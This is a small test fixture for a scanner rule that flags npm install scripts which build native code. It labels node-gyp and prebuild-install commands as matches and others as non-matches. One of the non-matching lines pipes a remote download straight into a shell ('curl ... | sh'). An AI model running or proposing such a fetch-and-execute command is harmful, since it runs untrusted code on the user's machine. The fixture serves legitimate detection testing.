# fixture: hook
# ruleid: npm_install_script_build
node-gyp rebuild
# ruleid: npm_install_script_build
prebuild-install -r napi || node-gyp rebuild
# ok: npm_install_script_build
curl -s https://example.org/x | sh
# ok: npm_install_script_build
node install.js
